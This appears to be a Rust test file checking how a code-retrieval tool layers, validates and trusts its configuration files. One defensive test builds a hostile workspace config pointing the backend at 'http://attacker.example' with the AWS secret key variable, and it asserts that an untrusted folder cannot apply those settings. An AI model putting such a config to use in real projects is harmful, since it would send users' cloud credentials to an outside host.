//! Configuration: layers, flags winning, and errors that name the file and the dotted key.

use crossfile_engine::chunk::ChunkerKind;
use crossfile_engine::config::{Options, Settings, Source};
use crossfile_engine::retrieve::RetrieverSpec;

use crate::support::{Workspace, crossfile, stderr};

#[test]
fn the_workspace_file_overrides_defaults_and_flags_override_the_file() {
    let ws = Workspace::new(
        "//- crossfile.toml\n[retrieve]\nretriever = \"jaccard\"\ntop_k = 3\n[index]\nbm25_chunker = \"syntax\"\n",
    );
    let settings = Settings::load_layers(None, ws.root(), Options::default())
        .expect("valid")
        .0;
    assert_eq!(settings.retrieve.retriever, RetrieverSpec::Jaccard);
    assert_eq!(settings.retrieve.top_k, 3);
    assert_eq!(settings.index.bm25_chunker, ChunkerKind::Syntax);
    assert_eq!(
        settings.retrieve.query_lines, 10,
        "untouched keys keep their default"
    );
    let flags = Options::parse_toml("[retrieve]\ntop_k = 7\n", Source::CommandLine).expect("flags");
    let settings = Settings::load_layers(None, ws.root(), flags)
        .expect("valid")
        .0;
    assert_eq!(
        (settings.retrieve.top_k, settings.retrieve.retriever),
        (7, RetrieverSpec::Jaccard)
    );
}

#[test]
fn every_bad_key_is_named_with_its_file() {
    let cases: &[(&str, &[&str])] = &[
        (
            "[index]\nfixed_lines = 10\nwindow = 3\n",
            &["index.window", "unknown key"],
        ),
        ("[retreive]\ntop_k = 3\n", &["retreive", "unknown key"]),
        (
            "[retrieve]\ntop_k = \"five\"\n",
            &["retrieve.top_k", "invalid type"],
        ),
        (
            "[retrieve]\ntop_k = 0\nretriever = \"bm42\"\n",
            &["retrieve.top_k", "retrieve.retriever", "bm25-cceval"],
        ),
        (
            "[index]\nbm25_chunker = \"lines\"\n",
            &["index.bm25_chunker", "fixed, sliding, syntax"],
        ),
        ("[index\n", &["crossfile.toml:1", "not valid TOML"]),
    ];
    for (text, needles) in cases {
        let ws = Workspace::new(&format!("//- crossfile.toml\n{text}"));
        let err = Settings::load_layers(None, ws.root(), Options::default())
            .expect_err("invalid config")
            .to_string();
        assert!(err.contains("crossfile.toml"), "{err}");
        for needle in *needles {
            assert!(
                err.contains(needle),
                "{text:?}: {err} should mention {needle}"
            );
        }
    }
}

#[test]
fn a_bad_config_stops_the_command_with_the_key() {
    let ws =
        Workspace::new("//- crossfile.toml\n[workspace]\nmax_file_bytes = 0\n//- a.py\nx = 1\n");
    let out = crossfile(
        &["index", ws.root().to_str().expect("utf-8")],
        ws.cache.path(),
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("workspace.max_file_bytes"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn the_user_file_is_a_layer_under_the_workspace_file() {
    let ws = Workspace::new("//- crossfile.toml\n[retrieve]\ntop_k = 4\n");
    let user = ws.cache.path().join("user.toml");
    std::fs::write(
        &user,
        "[retrieve]\ntop_k = 9\nretriever = \"bm25-cceval\"\n",
    )
    .expect("write");
    let settings = Settings::load_layers(Some(&user), ws.root(), Options::default())
        .expect("valid")
        .0;
    assert_eq!(
        (settings.retrieve.top_k, settings.retrieve.retriever),
        (4, RetrieverSpec::Bm25Cceval)
    );
    std::fs::write(&user, "[retrieve]\nnope = 1\n").expect("write");
    let err = Settings::load_layers(Some(&user), ws.root(), Options::default())
        .expect_err("bad user file")
        .to_string();
    assert!(
        err.contains("user.toml") && err.contains("retrieve.nope"),
        "{err}"
    );
}

#[test]
fn relative_paths_in_a_file_are_relative_to_that_file() {
    let ws = Workspace::new(
        "//- crossfile.toml\n[model]\npath = \"models/m.gguf\"\ntokenizer = \"/abs/tokenizer.json\"\n[index]\ncache_dir = \"../cache\"\n",
    );
    let trusted =
        Options::parse_toml("[trust]\nworkspace = true\n", Source::CommandLine).expect("flags");
    let settings = Settings::load_layers(None, ws.root(), trusted)
        .expect("valid")
        .0;
    assert_eq!(
        settings.model.path.as_deref(),
        Some(ws.root().join("models/m.gguf").as_path())
    );
    assert_eq!(
        settings.model.tokenizer.as_deref(),
        Some(std::path::Path::new("/abs/tokenizer.json"))
    );
    assert_eq!(settings.index.cache_dir, ws.root().join("../cache"));
    // Flags are relative to the working directory, as any command-line path.
    let flags =
        Options::parse_toml("[model]\npath = \"here.gguf\"\n", Source::CommandLine).expect("flags");
    let settings = Settings::load_layers(None, ws.root(), flags)
        .expect("valid")
        .0;
    assert_eq!(
        settings.model.path.as_deref(),
        Some(std::path::Path::new("here.gguf"))
    );
}

#[test]
fn an_untrusted_workspace_cannot_choose_where_code_keys_and_files_go() {
    let ws = Workspace::new(
        "//- crossfile.toml\n[backend]\nkind = \"openai\"\nendpoint = \"http://attacker.example\"\n\
         api_key_env = \"AWS_SECRET_ACCESS_KEY\"\n[index]\ncache_dir = \"/somewhere\"\n\
         [retrieve]\ntop_k = 3\n[trust]\nworkspace = true\n//- a.py\nx = 1\n",
    );
    let (settings, ignored) =
        Settings::load_layers(None, ws.root(), Options::default()).expect("valid");
    assert_eq!(settings.retrieve.top_k, 3, "harmless keys still apply");
    assert_eq!(
        settings.backend.kind,
        crossfile_engine::backend::BackendKind::Embedded
    );
    assert_eq!(settings.backend.endpoint, "http://127.0.0.1:8080");
    assert_eq!(settings.backend.api_key_env, None);
    assert_ne!(settings.index.cache_dir, std::path::Path::new("/somewhere"));
    let keys: Vec<&str> = ignored.iter().map(|i| i.key.as_str()).collect();
    assert_eq!(
        keys,
        [
            "trust.workspace",
            "backend.kind",
            "backend.endpoint",
            "backend.api_key_env",
            "index.cache_dir"
        ]
    );
    assert!(
        ignored[1].to_string().contains("crossfile.toml"),
        "{}",
        ignored[1]
    );

    // The user's own file trusts the folder: everything applies but the file's own [trust].
    let user = ws.cache.path().join("user.toml");
    std::fs::write(&user, format!("[trust]\nworkspaces = [{:?}]\n", ws.root())).expect("write");
    let (settings, ignored) =
        Settings::load_layers(Some(&user), ws.root(), Options::default()).expect("valid");
    assert_eq!(settings.backend.endpoint, "http://attacker.example");
    assert_eq!(settings.index.cache_dir, std::path::Path::new("/somewhere"));
    assert_eq!(ignored.len(), 1, "{ignored:?}");

    // The command line warns by key, and completes without sending anything anywhere.
    let out = crossfile(
        &["index", ws.root().to_str().expect("utf-8")],
        ws.cache.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    for key in ["backend.endpoint", "backend.api_key_env", "index.cache_dir"] {
        assert!(stderr(&out).contains(key), "{}", stderr(&out));
    }
    assert!(!std::path::Path::new("/somewhere").exists());
}
